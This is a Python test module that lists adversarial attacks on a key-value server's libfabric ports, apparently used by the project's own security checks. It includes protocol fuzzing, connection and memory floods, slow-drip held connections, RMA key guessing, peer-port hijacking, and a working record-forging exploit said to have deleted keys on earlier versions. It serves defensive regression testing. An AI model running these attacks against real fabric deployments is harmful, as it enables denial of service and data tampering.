# SPDX-License-Identifier: Apache-2.0
"""attacks.py -- the table of attacks on fabric ports: what each sends, in which formats, and why it is here.

An attack gets an Attacker and does its worst through it; world.py judges what is left. To add one: write a function or a row of MESSAGES, and give it a row in
TABLE. Columns: name; formats (rxm, native); targets; family (attacks of a family are judged together where they all fail, see port.py); short (part of `make check`);
counts (counters of `kv-client stat` of which one must have risen, where the server has them); residual (the place and the sentence of docs/guide/security.md, for what cannot
be stopped there). Nothing here reads a key: the attacker knows what /proc and libfabric's source tell everybody.
"""
import struct
import threading
import time

import formats as f
from world import CANARIES, EVIL, HOME, Borrowed, Line, canary, listening, memory_kib

STRANGER = "127.0.0.66"
PLACES = {
    "stranger": "an address from which no client has come",
    "neighbour": "an honest client's host, another port",
    "twin": "an honest client's host, claiming the port that it announced",
    "insider": "the connection of a client with a credential: messages alone, and the server alone",
}
OUTSIDE = ("stranger", "neighbour", "twin")
FRAME_HEADERS = (40, 32)  # of KVRail's frames now, and of those before they had a MAC
WILD = (0x7FFFFFFF, 0xFFFFFFFF, 5000, 1 << 40, (1 << 64) - 1)


class Attacker:
    """Somebody at a place who speaks a format to the listeners of a target."""

    def __init__(self, world, target, place, rng, short):
        self.world, self.target, self.place, self.rng, self.short = world, target, place, rng, short
        self.fmt = f.FORMATS[world.provider]
        self.process = getattr(world, target)
        self.ports, self.claims = [], []
        self.look()
        self.source = STRANGER if place == "stranger" else HOME
        self.lines, self.stop, self.threads = [], threading.Event(), []
        self.greeted = self.accepted = self.refused = 0
        self.silences = world.silences.setdefault((target, place), [0])  # greetings in a row that were not answered
        self.end = time.monotonic() + (0.8 if short else 12)
        self.watched = []

    def look(self):
        """Where the target listens, and where its peers do."""
        try:
            self.ports = self.world.ports(self.target) or self.ports
            self.claims = self.world.ports("server" if self.target != "server" else "honest") or self.claims
        except OSError:
            pass

    def line(self, port, keep=True, wait=1.0):
        """A connection, or None when the door does not open."""
        try:
            line = Line(self.source, port, wait)
        except ConnectionRefusedError:  # the endpoint was rebuilt: it listens elsewhere now
            self.refused += 1
            self.look()
            return None
        except OSError:
            self.refused += 1
            return None
        if keep:
            self.lines.append(line)
        return line

    def patience(self):
        return 1.0 if self.silences[0] < 2 else 0.004 if self.short else 0.03

    def claim(self):
        return self.rng.choice(self.claims) if self.place == "twin" and self.claims else self.rng.randrange(1024, 65536)

    def floods(self, n):
        """Turns of a flood: n, or fewer when its time is over or the door has not opened three times in a row."""
        shut = 0
        for i in range(n):
            was = self.refused
            yield i
            shut = shut + 1 if self.refused > was else 0
            if shut == 3 or time.monotonic() > self.end or self.process.p.poll() is not None:
                return

    def greet(self, port, keep=True, behind=b"", order=1, claim=None, **greeting):
        """Connect and ask as a client does. Returns the line and the index by which packets name the connection: None when it was not accepted. A door that lets
        one wait has a second to answer; after two that were silent, so much less that a flood is one."""
        if self.place == "insider":
            return self.borrow(port)
        line = self.line(port, keep, self.patience())
        if not line:
            return None, None
        self.greeted += 1
        greeting.setdefault("pid", self.rng.randrange(2, 1 << 22))
        line.send(f.ctrl(f.CONNREQ, self.fmt.greeting(self.claim() if claim is None else claim, **greeting), order=order) + behind)
        answer = line.read(f.CTRL_BYTES)
        self.silences[0] += line.silent
        if len(answer) < f.CTRL_BYTES or answer[1] != f.CONNRESP:
            return line, None
        self.accepted, self.silences[0], line.answered = self.accepted + 1, 0, True
        line.s.settimeout(1.0)
        return line, self.fmt.accepted(line.read(struct.unpack_from(">H", answer, 2)[0]))

    def borrow(self, port):
        """The victim's own connection to this port, of which it loses control for a moment; None when it has none for 2 s. The index by which packets name it is
        guessed."""
        limit = time.monotonic() + 2
        while time.monotonic() < limit:
            line = Borrowed.take(self.world.victim_alive(), port)
            if line:
                self.greeted += 1
                self.accepted += 1
                self.lines.append(line)
                return line, self.rng.randrange(4)
            time.sleep(0.05)
        self.refused += 1
        self.world.victim.kill()  # what was done in its name has cost it its session: another one
        return None, None

    def many(self, n, wait=0.5):
        """n bare connections, fewer when the door does not open three times in a row."""
        lines = (self.line(self.ports[i % len(self.ports)], wait=wait) for i in self.floods(n))
        return [line for line in lines if line]

    def grown(self, mib=512):
        """The target is harmed enough: the rest would only cost the machine."""
        try:
            return memory_kib(self.process.pid) > self.process.kib + mib * 1024
        except (OSError, AttributeError):
            return True

    def background(self, work):
        """work(self) on a thread until the attack is over."""
        t = threading.Thread(target=work, args=(self,), daemon=True)
        t.start()
        self.threads.append(t)

    def stolen(self):
        """What the target sent on lines that were only watched, behind its answer to the connect request."""
        n = 0
        for line in self.watched:
            line.s.setblocking(False)
            got = line.read(1 << 24)
            if len(got) >= f.CTRL_BYTES and not line.answered:
                self.accepted += 1
                got = got[f.CTRL_BYTES + struct.unpack_from(">H", got, 2)[0]:]
            n += len(got)
        return n

    def leave(self):
        self.stop.set()
        for t in self.threads:
            t.join(5)
        for line in self.lines:
            line.close()
        self.lines = []


# ---- messages that should not be: greet, send, stay ----

def cq(data):
    return struct.pack("<Q", data & (1 << 64) - 1)


def eager(a, conn, body, **more):
    return a.fmt.message(body, conn=conn, **more)


def rxm_type(kind):
    """rxm control type `kind` in 80 bytes, with ids that mean nothing."""
    def make(a, conn):
        return [f.base(body=f.packet(kind, conn=conn, msg_id=m, size=8)) for m in (0, 7) + WILD]
    return make


def conn_wild(a, conn):
    return [f.base(body=f.packet(kind, f.rndv_body([(0, 64, 1)]), conn=c, size=64)) for kind in (f.SEG, f.RNDV_REQ, f.ATOMIC) for c in WILD]


def write_data_wild(a, conn):
    body = f.rndv_body([(0x1000, 64, 1)] * 4)[:-8] + struct.pack("<Q", 255) + b"\xAA" * 1024
    return [f.base(body=f.packet(f.RNDV_WR_DATA, body, conn=conn, msg_id=m)) for m in (0, 1, 3, 100) + WILD]


def read_done_wild(a, conn):
    return [f.base(body=f.packet(f.RNDV_RD_DONE, conn=conn, msg_id=m, size=0)) for m in (0, 1, 2, 200, 255) + WILD]


def rndv_count_wild(a, conn):
    return [f.base(body=f.packet(f.RNDV_REQ, f.rndv_body([(0x1000, 64, 1)] * 4)[:-8] + struct.pack("<Q", n), conn=conn, msg_id=n, size=4096)) for n in (0, 5, 255)]


def segments_wild(a, conn):
    """Segments of messages that never began, with sizes that are not theirs."""
    return [f.base(body=f.packet(f.SEG, b"\x55" * 32, conn=conn, msg_id=m, size=s, seg_size=65535, ctrl_data=c)) for m in (1, 2) for s in (1 << 20, 0, 1 << 63) for c in (1, 2, 3)]


def size_wild(a, conn):
    return [f.base(body=f.packet(f.EAGER, b"\x11" * 32, conn=conn, size=s)) for s in (4096, 1 << 20, 1 << 63, (1 << 64) - 1)]


def hdr_oversize(a, conn):
    return [f.base(body=b"\x22" * 240, hdr_size=h) for h in (113, 128, 200, 255)]


def hdr_short(a, conn):
    return [f.base(body=b"\x22" * 64, hdr_size=h) for h in (0, 1, 8, 15)] + [f.base(op, b"\x22" * 64, hdr_size=16, iovs=4, flags=f.REMOTE_CQ_DATA) for op in (2, 4)]


def size_below_header(a, conn):
    return [f.base(size=s) for s in (0, 8, 15)] + [f.base(body=b"\x33" * 64, size=16)]


def size_huge(a, conn):
    return [f.base(body=b"\x44" * 128, size=s) for s in (1 << 63, (1 << 64) - 1, (1 << 63) - 1, 1 << 40)]


def iovs_255(a, conn):
    iov = f.rma_iov(0x1000, 0, 0) * 4
    return [f.base(op, b"", extra=iov, iovs=n) for op in (f.OP_READ_REQ, f.OP_WRITE) for n in (5, 255)] + [f.base(f.OP_WRITE, extra=cq(1) + iov, iovs=255, flags=f.REMOTE_CQ_DATA)]


def op_unknown(a, conn):
    return [f.base(op, b"\x66" * 48) for op in (5, 6, 7, 8, 9, 100, 255)]


def version_unknown(a, conn):
    return [f.base(body=f.packet(f.EAGER, b"\x77" * 40, conn=conn), version=v) for v in (0, 1, 4, 255)]


def packet_version_unknown(a, conn):
    return [f.base(body=f.packet(f.EAGER, b"\x77" * 40, conn=conn, version=v, op_version=o)) for v, o in ((0, 2), (255, 2), (4, 0), (4, 255))]


def op_wild(a, conn):
    return [f.base(body=f.packet(f.EAGER, b"\x78" * 40, conn=conn, op=o)) for o in (2, 5, 9, 10, 255)]


def ack(a, conn):
    return [f.base(op_data=f.OP_DATA_ACK)]


def ack_wanted(a, conn):
    """Messages that want acknowledgement, and acknowledgements that nobody wanted."""
    return [eager(a, conn, b"\x10" * 40, flags=f.DELIVERY_COMPLETE | f.COMMIT_COMPLETE) * 3 + f.base(op_data=f.OP_DATA_ACK, size=17, body=b"x")]


def read_response(a, conn):
    return [f.base(f.OP_READ_RSP, b"\x12" * n) for n in (0, 64, 4096)]


def immediates_without_key(a, conn):
    """Guesses of generation << 16 | slot: an immediate tells a client that the bytes of a GET are there."""
    out = []
    for generation in range(0, 24 if a.short else 96):
        out.append(b"".join(f.base(f.OP_WRITE, extra=cq(generation << 16 | slot), flags=f.REMOTE_CQ_DATA) for slot in range(128)))
    return [b"".join(out)]


def immediates_zero_length(a, conn):
    return [f.base(f.OP_WRITE, extra=cq(1 << 16 | slot) + f.rma_iov(0, 0, key), flags=f.REMOTE_CQ_DATA, iovs=1) for slot, key in ((0, 0), (1, 1), (2, 2), (3, a.rng.getrandbits(63)))]


def read_keys(a, conn):
    keys = list(range(6)) + [a.rng.getrandbits(32) for _ in range(3)] + [a.rng.getrandbits(63) for _ in range(3)]
    return [f.base(f.OP_READ_REQ, extra=f.rma_iov(addr, 4096, k), iovs=1) for k in keys for addr in (0, 0x7F0000000000)]


def write_keys(a, conn):
    keys = list(range(6)) + [a.rng.getrandbits(32) for _ in range(3)] + [a.rng.getrandbits(63) for _ in range(3)]
    return [f.base(f.OP_WRITE, b"\xEE" * 256, extra=f.rma_iov(addr, 256, k), iovs=1) for k in keys for addr in (0, 0x7F0000000000)]


def tagged(a, conn):
    """Two messages of 32 bytes that nobody waits for: the loop asks the socket again and again."""
    one = f.base(f.OP_TAGGED, b"\x0F" * 8, extra=struct.pack("<Q", 99))
    return [one + one]


def tagged_more(a, conn):
    tag = struct.pack("<Q", 7)
    return [f.base(f.OP_TAGGED, b"\x0F" * 3000, extra=tag), f.base(f.OP_TAGGED, b"", extra=cq(3) + tag, flags=f.REMOTE_CQ_DATA), f.base(body=b"\x0F" * 64, flags=f.TCPX_TAGGED),
            f.base(f.OP_TAG_RTS, extra=tag + struct.pack("<Q", 1 << 30)), f.base(f.OP_CTS, op_data=9), f.base(f.OP_DATA, b"\x0F" * 64, op_data=9)]


def rxm_tagged(a, conn):
    return [b"".join(f.base(body=f.packet(f.EAGER, b"\x0E" * 512, conn=conn, op=f.RXM_TAGGED, tag=t)) for t in range(300))]


def atomics(a, conn):
    out = []
    for op in (f.RXM_ATOMIC, f.RXM_ATOMIC_FETCH, 8):
        for datatype, act, count in ((0, 0, 1), (255, 255, 255), (5, 3, 4)):
            body = struct.pack("<QQQ", 0x1000, 8, 1) * 4 + b"\x01" * 64
            out.append(f.base(body=f.packet(f.ATOMIC, body, conn=conn, op=op, tag=datatype | act << 8 | count << 16)))
    return out


def not_a_frame(a, conn):
    """Whole and well formed, for the provider: noise, empty, and what looks like a frame of a session that is not."""
    frame = struct.pack("<HBBI", 0x524B, 2, 0, 65536) + bytes(16) + struct.pack("<HBBIQ", 64, 1, 0, 0, 1 << 20) + struct.pack("<BBHIQQ", 9, 0, 24, 1 << 31, 1, 5)
    return [b"".join(eager(a, conn, b) for b in (frame, b"", b"\x99" * 4096, b"\x00" * 32, frame[:31])) * 3]


# name: makes a list of bytes, each for a connection of its own
MESSAGES = {
    "ack": ack, "ack-wanted": ack_wanted, "read-response": read_response, "conn-wild": conn_wild, "write-data-wild": write_data_wild, "read-done-wild": read_done_wild,
    "rndv-count-wild": rndv_count_wild, "segments-wild": segments_wild, "size-wild": size_wild, "hdr-oversize": hdr_oversize, "hdr-short": hdr_short,
    "size-below-header": size_below_header, "size-huge": size_huge, "iovs-255": iovs_255, "op-unknown": op_unknown, "version-unknown": version_unknown,
    "packet-version-unknown": packet_version_unknown, "op-wild": op_wild, "immediates-without-key": immediates_without_key, "immediates-zero-length": immediates_zero_length,
    "read-keys": read_keys, "write-keys": write_keys, "tagged": tagged, "tagged-more": tagged_more, "rxm-tagged": rxm_tagged, "atomics": atomics, "not-a-frame": not_a_frame,
}
MESSAGES.update({"rxm-type-%d" % n: rxm_type(n) for n in range(1, 10)})


def send_messages(make):
    """Each of the messages on a connection of its own, to each port. Who was turned away says it all the same, unasked."""
    def attack(a):
        for port in a.ports:
            for i in range(len(make(a, 0))):
                if a.process.p.poll() is not None:
                    return
                line, conn = a.greet(port)
                if line:
                    line.send(make(a, conn or 0)[i])
    return attack


# ---- connect requests ----

def request_data_behind(a):
    """Data in the same segment as the connect request: no honest provider sends any before the answer."""
    for port in a.ports:
        for data in (f.base(op_data=f.OP_DATA_ACK), a.fmt.message(b"\x31" * 64) * 4, b"\xFF" * 512):
            a.greet(port, behind=data)


def request_wild(a):
    """Requests that are none: versions, sizes, kinds, byte order of the other end."""
    good = a.fmt.greeting(a.claim())
    wild = [f.ctrl(f.NACK, good), f.ctrl(f.CONNRESP, good), f.ctrl(255, good), f.ctrl(version=0, data=good), f.ctrl(version=255, data=good), f.ctrl(data=b""), f.ctrl(data=good[:3]),
            f.ctrl(data=good * 8), f.ctrl(data=good, size=256) + bytes(256), f.ctrl(data=good, size=65535) + bytes(65535), b"GET / HTTP/1.1\r\n\r\n" + bytes(64), b"\x16\x03\x01" + bytes(200)]
    if a.fmt is f.Rxm:
        wild += [f.ctrl(data=f.Rxm.greeting(a.claim(), **{k: v})) for k, v in (("version", 0), ("version", 2), ("endian", 1), ("endian", 9), ("ctrl_version", 0), ("op_version", 9), ("eager", 0), ("eager", 16384), ("eager", 1 << 31))]
    for port in a.ports:
        for data in wild:
            line = a.line(port)
            if line:
                line.send(data)


def request_nack(a):
    for port in a.ports:
        for data in (f.ctrl(f.NACK, a.fmt.greeting(a.claim())), f.ctrl(f.NACK)):
            line = a.line(port)
            if line:
                line.send(data)


def request_other_endian(a):
    for port in a.ports:
        line, conn = a.greet(port, order=1 << 56)
        if conn is not None:
            for op in range(8):
                line.send(f.base(op, b"\x21" * 64, order=">"))
            line.send(f.base(op_data=f.OP_DATA_ACK))


def request_port_zero(a):
    """Claims that no endpoint can have, and the target's own."""
    for port in a.ports:
        for claim in (0, port, a.world.control, 65535):
            a.greet(port, pid=77, claim=claim)


# ---- connections that are held ----

def half_request(a):
    """The header, and never the data that it announces: a provider that reads on a blocking socket stands still."""
    for port in a.ports:
        line = a.line(port)
        if line:
            line.send(f.ctrl(data=a.fmt.greeting(a.claim()))[:f.CTRL_BYTES])


def half_header(a):
    for port in a.ports:
        for n in (1, 16, 31):
            line = a.line(port)
            if line:
                line.send(f.ctrl(data=a.fmt.greeting(a.claim()))[:n])


def silent(a):
    a.many(16)


def silent_many(a):
    a.many(5000)


def slow_many(a):
    """One byte of the connect request per second, on 800 connections."""
    lines = a.many(800)
    request = f.ctrl(data=a.fmt.greeting(a.claim()))

    def drip(a):
        for byte in request:
            for line in lines:
                line.send(bytes([byte]))
            if a.stop.wait(1):
                return
    a.background(drip)


def half_message(a):
    """Half a header, and half a message, on connections that stay."""
    for port in a.ports:
        for data in (f.base()[:7], a.fmt.message(b"\x32" * 2000)[:1000], f.base(f.OP_WRITE, extra=f.rma_iov(0, 64, 1), iovs=1)[:30]):
            line, conn = a.greet(port)
            if conn is not None:
                line.send(data)


def accepted_many(a):
    """Whole requests, and then nothing: every one is an endpoint, or waits at the door."""
    for i in a.floods(150 if a.short else 600):
        a.greet(a.ports[i % len(a.ports)])


# ---- floods ----

def rendezvous_many(a):
    """Requests whose bytes are never given: each takes a posted receive."""
    for port in a.ports:
        line, conn = a.greet(port)
        if conn is None:
            continue
        for n in range(2000):
            if not line.send(f.base(body=f.packet(f.RNDV_REQ, f.rndv_body([(0x1000, 4096, 1)]), conn=conn, msg_id=n, size=4096))):
                break


def rendezvous_large(a):
    for port in a.ports:
        line, conn = a.greet(port)
        if conn is not None:
            for n, size in enumerate((4097, 1 << 20, 1 << 40, (1 << 64) - 1)):
                line.send(f.base(body=f.packet(f.RNDV_REQ, f.rndv_body([(0x1000, size, 1)] * 2), conn=conn, msg_id=n, size=size)))


def partial_many(a):
    """Half an eager message, then the connection ends."""
    for i in a.floods(1100 * len(a.ports)):
        line, conn = a.greet(a.ports[i % len(a.ports)], keep=False)
        if line:
            line.send(a.fmt.message(b"\x35" * 4000, conn=conn or 0)[:2000])
            line.close(reset=True)


def short_many(a):
    """Connect requests whose sender is gone before the answer, one at a time and in swarms."""
    swarm = []
    for i in a.floods(3000):
        line = a.line(a.ports[i % len(a.ports)], keep=False, wait=0.5)
        if line:
            line.send(f.ctrl(data=a.fmt.greeting(a.claim(), pid=i + 2)))
            swarm.append(line)
        if len(swarm) >= (1 if i % 1000 < 500 else 100):
            while swarm:
                swarm.pop().close(reset=i % 2 == 0)
    while swarm:
        swarm.pop().close()


def visits_many(a):
    """Whole visits: a request, its answer, something of a message, and gone."""
    says = (b"", f.base()[:9], f.base(size=16 + 64 + 40), a.fmt.message(b"\x36" * 40), f.base(size=16 + 64 + 4096) + bytes(64))
    for i in a.floods(300 if a.short else 3000):
        line, _ = a.greet(a.ports[i % len(a.ports)], keep=False)
        if line:
            line.send(says[i // len(a.ports) % len(says)])
            line.close(reset=i % 3 == 0)


def bare_many(a):
    """Connections that end without a byte."""
    for i in a.floods(3000):
        line = a.line(a.ports[i % len(a.ports)], keep=False, wait=0.5)
        if line:
            line.close(reset=i % 2 == 0)


def read_requests(a):
    """Requests for nothing whose answers are never fetched: each answer waits in memory."""
    one = f.base(f.OP_READ_REQ) * 4096
    for port in a.ports:
        line, conn = a.greet(port)
        if conn is None:
            continue
        for _ in range((12 if a.short else 150) << 20 >> 16):
            if not line.send(one) or a.grown():
                break


def immediates_many(a):
    """The same guesses again and again: some will be of a GET that is on its way. They also fill the queue of completions."""
    guesses = immediates_without_key(a, 0)[0]
    for port in a.ports:
        line, conn = a.greet(port)
        limit = time.monotonic() + (1 if a.short else 3)
        while conn is not None and time.monotonic() < limit and line.send(guesses) and not a.grown():
            pass


# ---- an honest client's name ----

def take_place(a):
    """Claim an honest peer's port, again and again: libfabric believes it, closes the true connection, and sends what is meant for the peer here."""
    limit = time.monotonic() + (0.7 if a.short else 2)
    while time.monotonic() < limit and a.process.p.poll() is None:
        for port in a.ports:
            for claim in a.claims or [9]:
                line, conn = a.greet(port, claim=claim)
                if conn is not None:
                    a.watched.append(line)
                time.sleep(a.rng.choice((0, 0.01, 0.1)) if conn is not None else 0.005)


def race(a):
    """Be there first: claim every port that begins to listen on this host, before the honest client that it belongs to has connected, and speak as soon as one is
    let in. A new client comes while this goes on."""
    def claims(a):
        seen = dict.fromkeys(listening(), 0.0)
        while not a.stop.wait(0.002):
            now = time.monotonic()
            for claim in listening():
                if now - seen.setdefault(claim, now) > 0.4:
                    continue
                for port in a.ports:
                    line = a.line(port, wait=0.2)
                    if line:
                        a.greeted += 1
                        line.send(f.ctrl(data=a.fmt.greeting(claim, pid=a.rng.randrange(2, 1 << 22))) + f.base(op_data=f.OP_DATA_ACK))
                        a.watched.append(line)
    a.background(claims)
    time.sleep(0.1)


def record(kind, flags, body, ident):
    return struct.pack("<BBHIQ", kind, flags, 16 + len(body), 0xFFFFFFFF, ident) + body


def forged_records(n):
    """What to put behind an old frame's header, by the frame's length (wire/wire.h): DELETE of a canary, PUT of a foreign key, GET
    into a region of the honest client's. XXH3-64 of nothing is a constant."""
    short, long = canary(n % CANARIES | 1).encode(), canary(n % CANARIES & ~1).encode()
    put = struct.pack("<QQQQQIHH", 0, 0, 0, 0x2D06800538D394C2, 0, 0, 8, 0) + bytes(32) + EVIL.encode()
    ident = (1 << 20) + 8 * n
    dest = struct.pack("<IIQQQ", n % 16, 1, n // 16 * 64, 64, 64)
    get = struct.pack("<QQQIHH", 0, 0, 0, 1 << 16, len(short), 0) + dest + short
    yield record(4, 0, struct.pack("<HHI", len(short), 0, 0) + short, ident)
    yield record(4, 0, struct.pack("<HHI", len(long), 0, 0) + long, ident + 1)
    yield record(2, 3, put, ident + 2)
    yield record(1, 0, get, ident + 3)


def read_base(line):
    """One message of the target's: op and body; None."""
    head = line.read(f.BASE_BYTES)
    if len(head) < f.BASE_BYTES:
        return None
    size = struct.unpack_from("<Q", head, 8)[0]
    return head[1], line.read(min(size, 1 << 20) - f.BASE_BYTES)


def forged(a):
    """A rendezvous of two parts, of which the first is answered with nothing: the receive buffer keeps an old frame's header with a session and what proves it, and
    gets the attacker's records behind it. Where the second is empty too, the old frame comes again. Found on 1.17 and 2.1: keys were deleted, bytes stored."""
    limit = time.monotonic() + 5
    while a.world.counts[0] < (2000 if a.short else 4000) and time.monotonic() < limit:
        time.sleep(0.1)  # every posted buffer has held a frame
    for port in a.ports:
        line, conn = a.greet(port)
        for n in range(0 if conn is None else 40 if a.short else 160):
            for data in forged_records(n):
                for head in FRAME_HEADERS:
                    if not forge(a, line, conn, head, data, replay=n % 4 == 3):
                        return


def forge(a, line, conn, head, data, replay):
    body = f.rndv_body([(0x1000, head, 1), (0x2000, len(data), 1)])
    line.send(f.base(body=f.packet(f.RNDV_REQ, body, conn=conn, msg_id=head, size=head + len(data))))
    asked = 0
    while asked < 2:
        got = read_base(line)
        if not got:
            return False
        asked += got[0] == f.OP_READ_REQ
    return line.send(f.base(f.OP_READ_RSP) + f.base(f.OP_READ_RSP, b"" if replay else data))


# ---- the table ----

BOTH, RXM, ALL, SERVER = ("rxm", "native"), ("rxm",), ("server", "honest", "bench"), ("server",)


# By place, the counters of `kv-client stat` of which one rises when somebody is turned away, or what he said is. A twin waits, and is
# not counted when he goes before his time.
DOOR = {"stranger": ("door_strangers",), "neighbour": ("door_claims",), "insider": ("door_aliens",)}
LAWFUL = {place: names for place, names in DOOR.items() if place != "insider"}  # for what has the form of a peer's message


class Row:
    def __init__(self, name, run, formats=BOTH, targets=ALL, family="message", short=True, places=OUTSIDE, counts=None, residual=None):
        self.name, self.run, self.formats, self.targets, self.family, self.short, self.places, self.counts, self.residual = \
            name, run, formats, targets, family, short, places, DOOR if counts is None and family in ("message", "request") else counts or {}, residual or {}


RXM_ONLY = ("conn-wild", "write-data-wild", "read-done-wild", "rndv-count-wild", "segments-wild", "size-wild", "packet-version-unknown", "op-wild", "rxm-tagged", "atomics")

TABLE = [
    Row("forged", forged, RXM, SERVER, "forged"),
    Row("take-place", take_place, family="place"),
    Row("race", race, targets=SERVER, family="race", short=False, places=("neighbour",)),
    *[Row(name, send_messages(make), RXM if name in RXM_ONLY or name.startswith("rxm-type") else BOTH, places=tuple(PLACES),
          counts=LAWFUL if name in ("immediates-zero-length", "read-keys", "write-keys", "not-a-frame") else None) for name, make in MESSAGES.items()],
    Row("request-data-behind", request_data_behind, family="request"),
    Row("request-wild", request_wild, family="request"),
    Row("request-nack", request_nack, family="request"),
    Row("request-other-endian", request_other_endian, family="request"),
    Row("request-claim-wild", request_port_zero, family="request"),
    Row("half-request", half_request, family="held"),
    Row("half-header", half_header, family="held"),
    Row("half-message", half_message, family="held", places=tuple(PLACES)),
    Row("silent", silent, family="held"),
    Row("accepted-many", accepted_many, family="many"),
    Row("silent-5000", silent_many, family="silent"),
    Row("slow-800", slow_many, family="slow"),
    Row("rendezvous-2000", rendezvous_many, RXM, family="flood", places=tuple(PLACES)),
    Row("rendezvous-large", rendezvous_large, RXM, family="flood", places=tuple(PLACES)),
    Row("partial-1100", partial_many, family="flood"),
    Row("short-3000", short_many, family="flood"),
    Row("visits-3000", visits_many, family="flood"),
    Row("bare-3000", bare_many, family="flood"),
    Row("read-requests", read_requests, family="flood", places=tuple(PLACES)),
    Row("immediates-flood", immediates_many, family="flood", places=tuple(PLACES)),
]
